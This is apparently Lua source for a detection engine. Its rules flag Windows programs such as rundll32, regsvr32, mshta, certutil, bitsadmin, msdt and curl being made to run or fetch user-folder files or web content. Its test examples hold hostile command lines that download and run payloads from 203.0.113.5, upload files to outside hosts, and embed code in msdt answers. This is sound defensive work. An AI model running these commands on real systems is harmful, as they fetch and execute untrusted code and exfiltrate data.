-- Programs of Windows that run what others wrote, told to do so with a file from a user's place or an address on the
-- web. One row, one rule: what the program is called, when its command line counts, and the verb for what it then does.

local lists = require "kaiseki.common.lists"
local command = require "kaiseki.detect.command"
local lineage = require "kaiseki.detect.lineage"
local places = require "kaiseki.detect.places"
local programs = require "kaiseki.detect.programs"
local say = require "kaiseki.detect.say"

-- The first argument that names a file in a user's place.
local function user_file(each, case)
    for i = 2, #each.words do
        local word = places.backslashed(each.words[i]:gsub(",.*$", "")):gsub("[}%).]+$", "")
        if word:find("\\", 1, true) and places.in_user_place(word, case) then return word end
    end
    return nil
end

-- The first address on the web in the command, without what surrounds it.
local function url(each)
    return each.text:match [=[[hH][tT][tT][pP][sS]?://[^%s"')]+]=] or each.text:match [=[[fF][tT][pP]://[^%s"')]+]=]
end

local function script_text(each)
    return each.folded:match "javascript:" or each.folded:match "vbscript:"
        or (each.folded:find("about:", 1, true) and each.folded:find "<script" and "script-in-command-line")
end

local function user_file_or_url(each, case)
    return url(each) or user_file(each, case)
end

-- At most one folder below the root of a stick or a mounted image; programs on a second disk lie deeper.
local function near_other_root(where, case)
    return places.on_other_drive(where, case) and where:find [[^%a:\[^\]+\[^\]+\]] == nil
end

local function regsvr32_target(each, case)
    local target = user_file_or_url(each, case)
    if target then return target end
    for i = 2, #each.words do
        local word = places.backslashed(each.words[i])
        if near_other_root(word, case) then return word end
    end
    return nil
end

-- Entry points of Windows' own libraries that run what follows them.
local RUNNERS = {
    "shellexec_rundll", "routethecall", "launchapplication", "openurl", "fileprotocolhandler", "registerocx",
    "launchinfsection",
}

local function is_runner(each)
    for _, name in ipairs(RUNNERS) do
        if each.folded:find(name, 1, true) then return true end
    end
    return false
end

-- rundll32 also runs a library that has another extension, or none.
local function rundll32_target(each, case)
    local target = script_text(each) or url(each) or (is_runner(each) and user_file(each, case))
    if target then return target end
    local library = places.backslashed(each.words[2] or ""):gsub(",.*$", "")
    local foreign = places.in_user_place(library, case) or near_other_root(library, case)
    return foreign and library or nil
end

local function certutil_target(each)
    if each:has("-urlcache", "-verifyctl", "-url") and url(each) then return url(each) end
    return nil
end

local function certutil_decoded(each)
    return each:has("-decode", "-decodehex") and each.words[#each.words] or nil
end

local function msiexec_target(each, case)
    local quiet = each:has("/q", "/quiet", "/qn", "/qb", "/passive")
    return url(each) or (quiet and each:has("/i", "/package") or each:has("/y", "/z")) and user_file(each, case) or nil
end

local function wmic_target(each)
    if not each:says("call") or not each:says("create") then return nil end
    local line = each.text:match "[cC][rR][eE][aA][tT][eE]%s*(.+)$"
    return line and line:match '^"([^"]+)"%s*$' or line
end

local function wmic_stylesheet(each)
    local sheet = each.folded:match "/format:%s*\"?([^%s\"]+)"
    return sheet and (sheet:find("://", 1, true) or sheet:find("%.xsl")) and sheet or nil
end

-- Answers to questions of a troubleshooter that hold code to be evaluated.
local function msdt_target(each)
    return each.folded:find("it_browseforfile=", 1, true) and each.folded:find("$(", 1, true)
        and "code-in-answers" or url(each)
end

-- Options of curl (case matters) and wget that send what they name.
local SENDS = {
    ["-F"] = true, ["-T"] = true, ["-d"] = true, ["--form"] = true, ["--upload-file"] = true, ["--data"] = true,
    ["--data-binary"] = true, ["--post-file"] = true, ["--body-file"] = true,
}

local function sends(each)
    for at = 2, #each.words do
        if SENDS[each.words[at]:match "^[^=]+" or ""] then return true end
    end
    return false
end

-- How the argument behind an option names a file. An "@" anywhere else belongs to an address or a text.
local WHOLE, DATA, FORM = { "^(.+)$" }, { "^@(.+)$" }, { "=@([^;]+)", "=<([^;]+)" }
local NAMES_FILE = {
    curl = { ["-T"] = WHOLE, ["--upload-file"] = WHOLE, ["-F"] = FORM, ["--form"] = FORM, ["-d"] = DATA,
             ["--data"] = DATA, ["--data-ascii"] = DATA, ["--data-binary"] = DATA, ["--json"] = DATA,
             ["--data-urlencode"] = { "^[^=@]*@(.+)$" } },
    wget = { ["--post-file"] = WHOLE, ["--body-file"] = WHOLE },
}

local function named_file(patterns, argument)
    for _, pattern in ipairs(patterns or {}) do
        local file = argument:match(pattern)
        if file then return file end
    end
    return nil
end

-- The file that curl or wget is told to send: "-F file=@PATH", "-d @PATH", "-T PATH", "--post-file=PATH".
local function sent_file(each)
    local options = NAMES_FILE[each.program] or {}
    for at = 2, #each.words do
        local word = each.words[at]
        local option, argument = word:match "^(%-%-[%w-]+)=(.+)$"
        local file = named_file(options[each.words[at - 1]], word) or (option and named_file(options[option], argument))
        if file then return file end
    end
    return nil
end

-- Where a tool uploads a file to.
local function upload_target(each) return sent_file(each) and url(each) or nil end

local function uploaded(line)
    return command.first(line, function(each)
        local file = sent_file(each)
        return file and { name = each.program, file = file }
    end) or {}
end

local ROWS = {
    { id = "exfiltration.upload-tool", programs = { "curl", "wget" }, attack = "T1048", target = upload_target,
      verb = "upload-with-tool", role = "url", more = uploaded,
      match = [[curl -s -F file=@C:\Users\Public\a.zip https://upload.example]],
      other = [[curl -T C:\Users\x\a.zip ftp://203.0.113.5/]],
      no_match = [[curl -H "From: me@x.example" -d user=a@b.example https://shop.example]] },
    { id = "stealth.rundll32", programs = { "rundll32" }, attack = "T1218.011", target = rundll32_target,
      verb = "run-with-tool", name = "rundll32",
      match = [[rundll32.exe C:\Users\x\AppData\Roaming\a\b.dll, Main]],
      other = [[rundll32 shell32.dll,ShellExec_RunDLL regsvr32 "C:/ProgramData/a/b.etl"]],
      no_match = "rundll32.exe shell32.dll,Control_RunDLL desk.cpl" },
    { id = "stealth.regsvr32", programs = { "regsvr32" }, attack = "T1218.010", target = regsvr32_target,
      verb = "run-with-tool", name = "regsvr32",
      match = "regsvr32 /s /n /u /i:http://203.0.113.5/a.sct scrobj.dll",
      no_match = [[regsvr32 /s "D:\Tools\Editor\tool.dll"]] },
    { id = "stealth.mshta", programs = { "mshta" }, attack = "T1218.005",
      target = function(each, case) return script_text(each) or user_file_or_url(each, case) end,
      verb = "run-with-tool", name = "mshta",
      match = "mshta http://203.0.113.5/a.hta",
      other = [[mshta "about:<hta:application><script>eval(x)</script>"]],
      no_match = [[mshta "C:\Program Files\Tool\about.hta"]] },
    { id = "stealth.msiexec", programs = { "msiexec" }, attack = "T1218.007", target = msiexec_target,
      verb = "install-quietly", name = "msiexec", is_administration = true,
      match = "msiexec /q /i http://203.0.113.5/a.msi",
      no_match = [[msiexec /i "C:\Users\x\Downloads\viewer.msi"]] },
    { id = "stealth.regasm", programs = { "regasm", "regsvcs" }, attack = "T1218.009",
      target = user_file, verb = "run-with-tool", means = "net-registrar",
      match = [[C:\Windows\Microsoft.NET\Framework\v4.0.30319\RegAsm.exe /U C:\Users\x\AppData\a.dll]],
      no_match = [[RegAsm.exe "C:\Program Files\Service\classes.dll" /codebase]] },
    { id = "stealth.installutil", programs = { "installutil" }, attack = "T1218.004",
      target = user_file, verb = "run-with-tool", means = "net-installer",
      match = [[C:\Windows\Microsoft.NET\Framework\v4.0.30319\InstallUtil.exe /U C:\Users\x\AppData\a.dll]],
      no_match = [[InstallUtil.exe "C:\Program Files\Service\service.exe"]] },
    { id = "stealth.msbuild", programs = { "msbuild" }, attack = "T1127.001",
      target = function(each, case) return not each:has("/nologo") and user_file(each, case) or nil end,
      verb = "run-with-tool", name = "MSBuild",
      match = [[MSBuild.exe C:\Users\x\AppData\Local\Temp\a.xml]],
      no_match = [[MSBuild.exe "C:\Program Files\Build\all.proj"]] },
    { id = "stealth.cmstp", programs = { "cmstp" }, attack = "T1218.003", target = user_file_or_url,
      verb = "run-with-tool", name = "cmstp",
      match = [[cmstp.exe /ni /s C:\Users\x\AppData\Local\Temp\a.inf]],
      no_match = [[cmstp.exe /u "C:\Windows\System32\vpn.inf"]] },
    { id = "stealth.odbcconf", programs = { "odbcconf" }, attack = "T1218.008", target = user_file,
      verb = "run-with-tool", name = "odbcconf",
      match = [[odbcconf /a {REGSVR C:\Users\Public\a.dll}]],
      no_match = [[odbcconf /a {REGSVR C:\Windows\System32\odbc.dll}]] },
    { id = "stealth.msdt", programs = { "msdt" }, attack = "T1218", target = msdt_target,
      verb = "run-with-tool", means = "troubleshooter",
      match = [[msdt.exe ms-msdt:/id PCWDiagnostic /skip force /param "IT_BrowseForFile=$(iex('x'))/../x.exe"]],
      no_match = "msdt.exe -id NetworkDiagnosticsNetworkAdapter -skip true" },
    { id = "stealth.control", programs = { "control" }, attack = "T1218.002", target = user_file,
      verb = "run-with-tool", means = "control-panel",
      match = [[control.exe C:\Users\x\AppData\Local\Temp\a.cpl]],
      no_match = "control.exe /name Microsoft.Sound" },
    { id = "stealth.indirect", programs = programs.names "indirect", called = "forfiles",
      attack = "T1202",
      target = function(each, case)
          if each.program == "conhost" and not each:has("--headless") then return nil end
          return user_file(each, case)
      end,
      verb = "run-with-tool", means = "windows-tool",
      match = [[pcalua.exe -a C:\Users\x\AppData\Local\Temp\a.exe]],
      no_match = [[forfiles /p C:\logs /m *.log /c "cmd /c del @path"]] },
    { id = "execution.wmic", programs = { "wmic" }, attack = "T1047", target = wmic_target,
      verb = "start-with-tool", name = "WMI", role = "command",
      match = [[wmic process call create "C:\Users\x\a.exe"]],
      no_match = "wmic os get caption" },
    { id = "stealth.wmic-stylesheet", programs = { "wmic" }, attack = "T1220", target = wmic_stylesheet,
      verb = "run-style-sheet", name = "wmic",
      match = "wmic os get /format:http://203.0.113.5/a.xsl",
      no_match = "wmic os get caption /format:csv" },
    { id = "stealth.certutil-decode", programs = { "certutil" }, attack = "T1140", target = certutil_decoded,
      verb = "decode-file", name = "certutil", role = "target",
      match = [[certutil -decode C:\Users\x\a.txt C:\Users\x\a.exe]],
      no_match = [[certutil -verify C:\certificates\a.cer]] },
    { id = "command-and-control.certutil", programs = { "certutil" }, attack = "T1105", target = certutil_target,
      verb = "download-with-tool", name = "certutil",
      match = [[certutil -urlcache -split -f http://203.0.113.5/a.exe C:\Users\x\a.exe]],
      no_match = "certutil -store my" },
    { id = "persistence.bitsadmin", programs = { "bitsadmin" }, attack = "T1197",
      target = function(each)
          local at = command.position(each, "/setnotifycmdline")
          return at and each.words[at + 2] or nil
      end,
      verb = "run-after-transfer", name = "bitsadmin", role = "command",
      match = [[bitsadmin /SetNotifyCmdLine job C:\Users\x\a.exe NULL]],
      no_match = "bitsadmin /setnotifyflags job 1" },
    { id = "command-and-control.bitsadmin", programs = { "bitsadmin" }, attack = "T1197",
      target = function(each)
          return each:has("/transfer", "/addfile") and (url(each) or "a-file") or nil
      end,
      verb = "transfer-with-tool", name = "bitsadmin",
      match = [[bitsadmin /transfer job http://203.0.113.5/a.exe C:\Users\x\a.exe]],
      no_match = "bitsadmin /list" },
    { id = "command-and-control.curl", programs = { "curl", "wget" }, attack = "T1105",
      target = function(each, case)
          return not sends(each) and url(each) and user_file(each, case) and url(each) or nil
      end,
      verb = "download-with-tool", means = "tool",
      match = [[curl -s http://203.0.113.5/a.exe -o C:\Users\x\AppData\Local\Temp\a.exe]],
      no_match = "curl http://203.0.113.5/status" },
}

-- cmd.exe takes carets out of a name before it runs it.
local function with_carets(names)
    local parts = { "^" }
    for _, name in ipairs(names) do parts[#parts + 1] = name end
    return parts
end

local function runs(row)
    local names = lists.set(row.programs)
    return function(each, case)
        return names[each.program] and row.target(each, case) or nil
    end
end

local function example(line)
    return { operation = "Process Create", path = [[C:\Windows\System32\tool.exe]], ["process.name"] = "a.exe",
             ["child.command_line"] = line }
end

-- A package from a disk is how administrators and setup programs install; of the sample's tree it is another matter.
local function excuse(finding)
    if places.has_url(finding.key) or lineage.in_tree(finding.process) then return nil end
    for _, event in ipairs(finding.events) do
        local child = lineage.started(event)
        if child and child.in_tree then return nil end
    end
    return "medium"
end

-- What the commands do not name.
local SUBJECTS = { ["script-in-command-line"] = true, ["code-in-answers"] = true, ["a-file"] = true }

-- The role of what the program was told to run or fetch.
local function role_of(target)
    if SUBJECTS[target] then return "subject" end
    if target:find "^%a+://" then return "url" end
    return target:find("\\", 1, true) and "file" or "text"
end

for _, row in ipairs(ROWS) do
    local target = runs(row)
    rule {
        id = row.id,
        title = (row.called or row.programs[1]) .. " used to run or fetch what is not Windows'",
        severity = "high",
        attack = { row.attack },
        description = "A program that Windows ships and everyone trusts is made to run or fetch a file from a user's "
            .. "folder or an address on the web.",
        references = { "https://attack.mitre.org/techniques/" .. row.attack:gsub("%.", "/") .. "/" },
        false_positives = { "Administrators, and setup programs of per-user products." },
        author = "kaiseki",
        match = operation:is "Process Create" & child.command_line:contains(with_carets(row.programs)),
        on_event = function(event, case)
            local found = command.first(event.child.command_line, function(each) return target(each, case) end)
            if not found then return end
            -- The 32-bit host hands over to the 64-bit one and the other way round.
            local starter = event.process
            local hands_over = starter.parent and starter.command_line
                and command.first(starter.command_line, function(each) return target(each, case) end) == found
            case:finding {
                process = lineage.requester(hands_over and starter.parent or starter), key = found, event = event,
            }
        end,
        excuse = row.is_administration and excuse or nil,
        finding = function(finding)
            local starter = finding.events[1].process
            local other = finding.process and starter.pid and starter ~= finding.process
                and not say.same_program(starter, finding.process)
            local facts = { row.verb, name = row.name, means = row.means, through = other and starter or nil }
            facts[row.role or role_of(finding.key)] = finding.key
            for role, object in pairs(row.more and row.more(finding.events[1].child.command_line) or {}) do
                facts[role] = object
            end
            return facts
        end,
        examples = {
            match = { example(row.match), row.other and example(row.other) },
            no_match = { example(row.no_match) },
        },
    }
end
